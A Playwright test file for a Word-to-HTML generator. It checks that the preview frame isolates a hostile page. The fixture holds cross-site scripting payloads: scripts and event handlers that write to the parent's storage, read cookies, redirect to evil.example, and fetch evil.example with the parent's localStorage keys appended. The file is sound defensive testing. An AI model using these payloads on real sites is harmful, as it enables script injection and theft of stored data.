import { expect, type Page, test } from '@playwright/test'
import { sampleDocument } from './sample-documents.ts'
import { openGenerator, parseOne, renderedPage } from './the-generator.ts'

/** The tool's own policy would keep scripts out of the frame as well: without it the frame alone must hold. */
test.use({ bypassCSP: true })

/** What a page would try if a value ever became markup. Whatever works leaves a mark or asks for evil.example. */
const hostilePage = `<!doctype html>
<html lang="en"><head><title>Hostile</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
<script>
  const attempts = [
    () => { parent.document.title = 'hacked' },
    () => { parent.localStorage.setItem('hacked', 'by parent') },
    () => { localStorage.setItem('hacked', 'by itself') },
    () => { parent.hacked = document.cookie || true },
    () => { top.location.href = 'https://evil.example/top' },
    () => { open('https://evil.example/window') },
    () => { alert('hacked') },
    () => { fetch('https://evil.example/' + Object.keys(parent.localStorage)) },
    () => { new Image().src = 'https://evil.example/image' },
    () => { indexedDB.open('hacked') },
  ]
  for (const attempt of attempts) try { attempt() } catch {}
</script></head>
<body><main id="main"><h1 class="hacked">A hostile page</h1>
<svg onload="parent.hacked = true"></svg>
<img alt="" src="data:," onerror="parent.hacked = true; alert('hacked')">
<iframe title="inner" srcdoc="<script>top.hacked = true; top.localStorage.hacked = 'inner'</script>"></iframe>
</main></body></html>`

/** Whatever the page reached of ours, or asked of others. */
function watchHarm(page: Page): string[] {
  const harm: string[] = []
  page.on('dialog', (dialog) => {
    harm.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss().catch(() => undefined)
  })
  page.context().on('request', (request) => {
    if (request.url().includes('evil.example')) harm.push(`asked for ${request.url()}`)
  })
  page.context().on('page', () => harm.push('a window'))
  return harm
}

async function marksOn(page: Page) {
  return await page.evaluate(async () => ({
    title: document.title.includes('hacked'),
    global: 'hacked' in window,
    storage: Object.keys(localStorage).filter((key) => key.includes('hacked')),
    databases: (await indexedDB.databases()).filter(({ name }) => name === 'hacked'),
  }))
}

const unharmed = { title: false, global: false, storage: [], databases: [] }

test('a hostile page in the preview reaches nothing of the tool, even without its policy', async ({
  page,
}) => {
  const harm = watchHarm(page)
  await page.route('**/api/html/generate-html-from-word', (route) =>
    route.fulfill({ body: hostilePage, contentType: 'text/html' }),
  )
  await openGenerator(page)
  await parseOne(page, await sampleDocument('hostile.docx'))
  await expect(renderedPage(page).getByRole('heading', { name: 'A hostile page' })).toBeVisible()
  // The frame that measures pages for the report has had its turn.
  await expect(page.getByRole('region', { name: 'Page report' })).toBeVisible()
  expect(await marksOn(page)).toEqual(unharmed)
  expect(harm).toEqual([])
})

test('the same page, opened where scripts run, does all of that', async ({ page }) => {
  const harm = watchHarm(page)
  await page.route('**/hostile-page', (route) =>
    route.fulfill({ body: hostilePage, contentType: 'text/html' }),
  )
  await page.route('https://evil.example/**', (route) => route.abort())
  await page.goto('/hostile-page').catch(() => undefined)
  await expect.poll(() => harm.length).toBeGreaterThan(2)
})
